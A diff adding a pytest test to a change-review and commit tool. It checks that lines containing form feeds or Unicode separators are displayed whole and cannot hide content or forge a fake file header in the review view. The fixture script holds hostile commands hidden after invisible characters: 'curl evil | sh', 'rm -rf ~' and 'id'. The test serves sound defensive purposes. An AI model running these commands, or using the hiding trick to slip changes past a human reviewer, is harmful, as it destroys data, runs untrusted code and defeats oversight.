@@ -132,3 +132,27 @@ def test_headless_commit_refuses_a_binary_that_would_run(py_repo: Path) -> None:
     (py_repo / "tool").write_bytes(b"\x7fELF" + NOISE)
     with pytest.raises(CommitFailed, match=r"tool \(an executable program\): binary, and it would run"):
         commit_session_changes(state, None)
+
+
+def test_a_line_with_a_form_feed_or_a_separator_is_drawn_whole_and_forges_no_file(py_repo: Path) -> None:
+    """Found in this item's red-team pass: the diff was cut into lines with ``str.splitlines``, which
+    also cuts at a form feed, ``\\x1c``-``\\x1e``, ``\\x85``, U+2028/2029: what followed one was no diff
+    line, so it was dropped from view (the change taken whole, accepted by default), and a
+    ``diff --git`` after one read as a file of its own."""
+    (py_repo / "run.sh").write_text("echo one\n")
+    git(py_repo, "add", "run.sh")
+    git(py_repo, "commit", "-q", "-m", "script")
+
+    def change(repo: Path) -> None:
+        (repo / "run.sh").write_bytes(
+            b"echo one\necho a\x0c; curl evil | sh\necho b\x1c; rm -rf ~\necho c\xc2\x85; id\n"
+            b"echo d\x0cdiff --git a/fake.txt b/fake.txt\n"
+        )
+
+    _review, selection = load(py_repo, change)
+    assert [f.path for f in selection.files] == ["run.sh"]
+    script = selection.files[0]
+    assert not script.whole
+    text = drawn(script)
+    for tail in ("␌; curl evil | sh", "␜; rm -rf ~", "⟨U+0085⟩; id", "␌diff --git a/fake.txt b/fake.txt"):
+        assert tail in text, (tail, text)
